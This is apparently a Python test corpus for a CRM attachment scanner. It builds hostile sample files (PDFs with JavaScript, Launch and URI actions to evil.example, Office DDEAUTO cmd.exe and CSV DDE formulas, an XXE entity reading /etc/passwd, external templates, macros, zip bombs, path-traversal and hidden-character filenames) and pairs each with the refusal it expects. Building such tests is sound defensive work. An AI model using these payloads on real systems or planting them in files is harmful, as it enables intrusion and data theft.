"""The corpus of trust row 39, second half: files that attackers send, all made here from bytes."""

from collections.abc import Callable
from dataclasses import dataclass

from crm.kernel.attachments.tests import makers
from crm.kernel.attachments.tests.corpus import SVG, main_part, related
from crm.kernel.attachments.tests.makers import attached, field, package, pdf, stream, words, zipped

MACRO_TYPES = makers.CONTENT_TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
PROJECT_TYPES = makers.CONTENT_TYPES.replace("application/xml", "application/vnd.ms-office.vbaProject")
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
OPENS_ADDRESS = b"/OpenAction<</S/URI/URI(http://evil.example/a)>>"


@dataclass(frozen=True)
class Bad:
    """A file that is refused: its name, the rule, and what the refusal names."""

    name: str
    make: Callable[[], bytes]
    code: str
    found: str = ""


def document(**extra: bytes) -> bytes:
    """A Word document with these parts, `__` in a name for a slash and `_dot_` for a dot."""
    return package(extra={name.replace("__", "/").replace("_dot_", "."): body for name, body in extra.items()})


NAMES = (
    Bad("a.exe", lambda: b"MZ", "type_not_allowed"),
    Bad("a.EXE", lambda: b"MZ", "type_not_allowed"),
    Bad("a.svg", lambda: b"<svg/>", "type_not_allowed"),
    Bad("a.html", lambda: b"<html>", "type_not_allowed"),
    Bad("a.docm", package, "type_not_allowed"),
    Bad("a.zip", lambda: zipped({"a": b"a"}), "type_not_allowed"),
    Bad("locked.zip", makers.encrypted_package, "type_not_allowed"),
    Bad("eicar.com", lambda: EICAR, "type_not_allowed"),
    Bad("noextension", pdf, "type_not_allowed"),
    Bad("．pdf", pdf, "type_not_allowed"),
    Bad(".pdf", pdf, "name_path"),
    Bad("a.exe.pdf", pdf, "name_double_extension"),
    Bad("a．exe．pdf", pdf, "name_double_extension"),
    Bad("a.docm.docx", package, "name_double_extension"),
    Bad("a.HtMl.pdf", pdf, "name_double_extension"),
    Bad("../../etc/a.pdf", pdf, "name_path"),
    Bad("c:\\a.pdf", pdf, "name_path"),
    Bad("fdp\u202eexe.pdf", pdf, "name_hidden_marks"),
    Bad("a\u200f.pdf", pdf, "name_hidden_marks"),
    Bad("a\u200b.pdf", pdf, "name_hidden_marks"),
    Bad("a\u3164.pdf", pdf, "name_hidden_marks"),
    Bad("a\U000e0041.pdf", pdf, "name_hidden_marks"),
    Bad("a\x00.pdf", pdf, "name_hidden_marks"),
    Bad("a\ud800.pdf", pdf, "name_hidden_marks"),
    Bad("a\n.pdf", pdf, "name_hidden_marks"),
    Bad("x" * 117 + ".pdf", pdf, "name_long"),
)

PDFS = (
    Bad("empty.pdf", lambda: b"", "empty"),
    Bad("mz.pdf", lambda: b"MZ" + pdf(), "content_differs"),
    Bad("page.pdf", lambda: b"<html><script>alert(1)</script>", "content_differs"),
    Bad("both.pdf", lambda: pdf(between=zipped({"a": b"a"})), "content_differs"),
    Bad("cut.pdf", lambda: b"%PDF-1.7 ", "damaged"),
    Bad("locked.pdf", lambda: makers.locked("user", "owner"), "encrypted"),
    Bad("script.pdf", lambda: pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "pdf_javascript"),
    Bad("unused-script.pdf", lambda: pdf(b"<</S/JavaScript/JS 6 0 R>>"), "pdf_javascript"),
    Bad("spelled.pdf", lambda: pdf(b"<</S/J#61v#61Script>>"), "pdf_javascript"),
    Bad("spelled-js.pdf", lambda: pdf(b"<</#4a#53(1)>>"), "pdf_javascript"),
    Bad("rendition.pdf", lambda: pdf(b"<</S/Rendition/JS(app.alert(1))>>"), "pdf_javascript"),
    Bad(
        "hidden.pdf", lambda: makers.compressed(pdf(b"<</S/JavaScript/JS(1)>>", catalog=b"/X 5 0 R")), "pdf_javascript"
    ),
    Bad("deep.pdf", lambda: pdf(b"<</A[[<</B<</JS(1)>>>>]]>>"), "pdf_javascript"),
    Bad("in-stream.pdf", lambda: pdf(stream(b"x", b"/X<</S/JavaScript>>")), "pdf_javascript"),
    Bad(
        "form.pdf",
        lambda: pdf(stream(b"<xfa><script>1</script></xfa>"), catalog=b"/AcroForm<</XFA 5 0 R>>"),
        "pdf_javascript",
    ),
    Bad("launch.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "pdf_launch", "cmd.exe"),
    Bad("opening.pdf", lambda: pdf(catalog=OPENS_ADDRESS), "pdf_opens_address", "http://evil.example/a"),
    Bad("page-opening.pdf", lambda: pdf(b"<</S/URI/URI(http://x)>>", page=b"/AA<</O 5 0 R>>"), "pdf_opens_address"),
    Bad(
        "next.pdf",
        lambda: pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://x)>>]>>"),
        "pdf_opens_address",
    ),
    Bad(
        "remote.pdf",
        lambda: pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]>>"),
        "pdf_opens_file",
        "evil",
    ),
    Bad("posting.pdf", lambda: pdf(b"<</S/SubmitForm/F(http://x)>>"), "pdf_sends_data", "http://x"),
    Bad("importing.pdf", lambda: pdf(b"<</S /ImportData/F(a.fdf)>>"), "pdf_sends_data", "a.fdf"),
    Bad("media.pdf", lambda: pdf(b"<</Subtype/RichMedia>>"), "pdf_media"),
    Bad("unfolding.pdf", makers.unfolding_pdf, "too_costly"),
    Bad("carrying.pdf", lambda: attached("付款.exe", b"MZ"), "pdf_attachment", "付款.exe"),
    Bad("disguised.pdf", lambda: attached("付款.txt", b"MZ\x90\x00\x03"), "pdf_attachment", "付款.txt"),
    Bad("carried-script.pdf", lambda: attached("a.pdf", pdf(b"<</S/JavaScript>>")), "pdf_attachment", "a.pdf"),
    Bad("carried-macro.pdf", lambda: attached("a.docx", document(word__vbaProject_dot_bin=b"x")), "pdf_attachment"),
    Bad("carried-eicar.pdf", lambda: attached("a.txt", EICAR), "pdf_attachment", "a.txt"),
)

PLAIN_FILES = (
    Bad("tail.png", lambda: makers.png(after=zipped({"a": b"a"})), "content_differs"),
    Bad("huge.png", lambda: makers.png(50_000, 50_000), "image_sides"),
    Bad("huge.jpg", lambda: makers.jpeg(50_000, 2), "image_sides"),
    Bad("huge-png.jpg", lambda: makers.png(50_000, 2), "image_sides"),
    Bad("none.png", lambda: makers.png(0, 5), "image_sides"),
    Bad("cut.png", lambda: makers.png()[:20], "damaged"),
    Bad("tail.jpg", lambda: makers.jpeg(after=zipped({"a": b"a"})), "damaged"),
    Bad("page.jpg", lambda: b"\xff\xd8<html>", "damaged"),
    Bad("fill.jpg", lambda: makers.jpeg(fill=65), "damaged"),
    Bad("segments.jpg", lambda: makers.jpeg(segments=10_001), "damaged"),
    Bad("chunks.png", lambda: makers.png(chunks=9_998), "damaged"),
    Bad("pdf.png", pdf, "content_differs"),
    Bad("page.txt", lambda: b" \n<!DOCTYPE html><script>1</script>", "content_differs"),
    Bad("svg.csv", lambda: '\ufeff<svg onload="alert(1)">'.encode(), "content_differs"),
    Bad("page16.txt", lambda: "<html><script>1</script>".encode("utf-16"), "content_differs"),
    Bad("binary.txt", lambda: b"\x00\x01\x02", "content_differs"),
    Bad("elf.csv", lambda: b"\x7fELF\x02\x01", "content_differs"),
    Bad("half.txt", lambda: b"ab\xff\xff", "content_differs"),
    Bad("after-zeros.txt", lambda: b"a\0\0b", "content_differs"),
    Bad("eicar.txt", lambda: EICAR, "malware_test"),
    Bad("dde.csv", lambda: b"a,b\n1,=cmd|'/C calc.exe'!A0\n", "office_dde", "=cmd|"),
    Bad("quoted-dde.csv", lambda: b"\"-2+3+cmd|'/C calc'!A0\"", "office_dde"),
)

PACKAGES = (
    Bad("plain.docx", lambda: zipped({"a.xml": b"<a/>"}), "content_differs"),
    Bad("sheet.docx", lambda: package("xlsx"), "content_differs"),
    Bad("text.docx", lambda: b"hello", "content_differs"),
    Bad("front.docx", lambda: b"%PDF-" + package(), "content_differs"),
    Bad("old.docx", lambda: OLE, "encrypted_or_old"),
    Bad("locked.docx", makers.encrypted_package, "encrypted"),
    Bad("overlap.docx", makers.overlapping, "damaged"),
    Bad("cut.docx", lambda: package()[:-10], "damaged"),
    Bad("size.docx", lambda: makers.bomb(301), "bomb_size"),
    Bad("ratio.docx", lambda: makers.bomb(100), "bomb_ratio"),
    Bad("entries.docx", lambda: package(extra={f"word/{n}.bin": b"" for n in range(10_001)}), "bomb_entries"),
    Bad("slip.docx", lambda: package(extra={"../../evil.xml": b"<a/>"}), "package_path"),
    Bad("root.docx", lambda: package(extra={"/evil.xml": b"<a/>"}), "package_path"),
    Bad("macro.docx", lambda: package(extra={"word/vbaProject.bin": b"x"}), "macros", "vbaProject"),
    Bad("macro2.docx", lambda: package(types=MACRO_TYPES), "macros", "macroEnabled"),
    Bad("macro3.docx", lambda: package(types=PROJECT_TYPES, extra={"word/a.bin": b"x"}), "macros", "vbaProject"),
    Bad("macro4.xlsx", lambda: package("xlsx", extra={"xl/macrosheets/sheet1.xml": b"<m/>"}), "macros"),
    Bad("macro5.docx", lambda: related(("vbaProject", "a.bin", "")), "macros"),
    Bad("control.docx", lambda: package(extra={"word/activeX/activeX1.bin": b"x"}), "macros"),
    Bad(
        "click.pptx",
        lambda: package(
            "pptx",
            extra={"ppt/slides/slide1.xml": b'<p><a:hlinkClick xmlns:a="x" action="ppaction://macro?name=a"/></p>'},
        ),
        "macros",
    ),
    Bad(
        "run.pptx",
        lambda: package(
            "pptx", extra={"ppt/slides/slide1.xml": b'<p><a:hlinkHover xmlns:a="x" action="ppaction://program"/></p>'}
        ),
        "office_external",
    ),
    Bad(
        "template.docx",
        lambda: related(("attachedTemplate", "http://evil.example/t.dotm", "External"), part="word/settings.xml"),
        "office_template",
        "http://evil.example/t.dotm",
    ),
    Bad(
        "picture.docx", lambda: related(("image", "http://evil.example/p.png", "External")), "office_external", "p.png"
    ),
    Bad(
        "share.docx",
        lambda: related(("hyperlink", "file://///evil/share/a.exe", "External")),
        "office_external",
        "evil",
    ),
    Bad("script-link.docx", lambda: related(("hyperlink", "javascript:alert(1)", "External")), "office_external"),
    Bad(
        "frame.docx",
        lambda: related(("frame", "http://evil.example/", "External"), part="word/webSettings.xml"),
        "office_external",
    ),
    Bad(
        "workbook.xlsx",
        lambda: related(
            ("externalLinkPath", "http://evil.example/b.xlsx", "External"),
            kind="xlsx",
            part="xl/externalLinks/externalLink1.xml",
        ),
        "office_external",
    ),
    Bad("object.docx", lambda: related(("oleObject", "embeddings/oleObject1.bin", "")), "office_object"),
    Bad("linked-object.docx", lambda: related(("oleObject", "http://evil.example/a.rtf", "External")), "office_object"),
    Bad("renamed-object.docx", lambda: package(extra={"word/media/image1.png": OLE}), "office_object", "image1.png"),
    Bad("chunk.docx", lambda: related(("aFChunk", "afchunk.dat", "")), "office_chunk", "afchunk.dat"),
    Bad("chunk2.docx", lambda: main_part(b'<w:document xmlns:w="x"><w:altChunk/></w:document>'), "office_chunk"),
    Bad("page.docx", lambda: package(extra={"word/a.html": b"<html>"}), "package_program", "a.html"),
    Bad(
        "dde.docx",
        lambda: main_part(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        "office_dde",
        "DDEAUTO",
    ),
    Bad("split-dde.docx", lambda: main_part(field("D", "DE", "AUTO cmd")), "office_dde", "DDEAUTO"),
    Bad("simple-dde.docx", lambda: main_part(words('<w:fldSimple w:instr="dde cmd x"/>')), "office_dde"),
    Bad("open-dde.docx", lambda: main_part(words("<w:instrText>DDE cmd x</w:instrText>")), "office_dde"),
    Bad("footer-dde.docx", lambda: package(extra={"word/footer1.xml": field("DDE cmd x")}), "office_dde"),
    Bad("include.docx", lambda: main_part(field('INCLUDEPICTURE "http://evil.example/a"')), "office_external"),
    Bad(
        "dde.xlsx",
        lambda: package(
            "xlsx",
            extra={"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
        ),
        "office_dde",
    ),
    Bad(
        "web.xlsx",
        lambda: package(
            "xlsx",
            extra={
                "xl/connections.xml": b'<connections><connection><webPr url="http://x"/></connection></connections>'
            },
        ),
        "office_external",
    ),
    Bad("program.docx", lambda: package(extra={"word/embeddings/a.exe": b"MZ"}), "package_program", "a.exe"),
    Bad("renamed-program.docx", lambda: package(extra={"word/media/image1.png": b"MZ\x90"}), "package_program"),
    Bad(
        "picture-script.docx",
        lambda: package(extra={"word/media/image1.svg": SVG.replace("path", "script").encode()}),
        "picture_script",
        "script",
    ),
    Bad(
        "picture-load.docx",
        lambda: package(extra={"word/media/image1.svg": SVG.replace("<path", '<path onload="alert(1)"').encode()}),
        "picture_script",
        "onload",
    ),
    Bad(
        "xxe.docx",
        lambda: document(word__a_dot_xml=b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'),
        "package_entities",
    ),
    Bad("xxe.xlsx", lambda: package("xlsx", extra={"xl/sharedStrings.xml": b"<!DOCTYPE a><a/>"}), "package_entities"),
    Bad(
        "xxe16.docx",
        lambda: document(word__a_dot_xml='<?xml version="1.0"?><!DOCTYPE a><a/>'.encode("utf-16")),
        "package_entities",
    ),
    Bad(
        "late.docx",
        lambda: document(word__a_dot_xml=b"<!--" + b"x" * 5000 + b"--><!DOCTYPE a><a/>"),
        "package_entities",
    ),
    Bad(
        "quoting.docx",
        lambda: document(word__a_dot_xml=b"<!-- <a>" + b"x" * 5000 + b"--><!DOCTYPE a><a/>"),
        "package_entities",
    ),
    Bad(
        "late.ofd", lambda: zipped({"OFD.xml": b"<!-- <a>" + b"x" * 5000 + b"--><!DOCTYPE a><a/>"}), "package_entities"
    ),
    Bad("nested.docx", lambda: package(extra={"word/embeddings/a.zip": zipped({"a": b"a"})}), "package_nested"),
    Bad("renamed-nested.docx", lambda: package(extra={"word/embeddings/a.bin": zipped({"a": b"a"})}), "package_nested"),
    Bad(
        "deep.docx",
        lambda: package(extra={"word/embeddings/a.xlsx": package("xlsx", extra={"xl/embeddings/b.docx": package()})}),
        "package_nested",
    ),
    Bad(
        "inner.docx",
        lambda: package(extra={"word/embeddings/a.xlsx": package("xlsx", extra={"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
)
BAD = (*NAMES, *PDFS, *PLAIN_FILES, *PACKAGES)
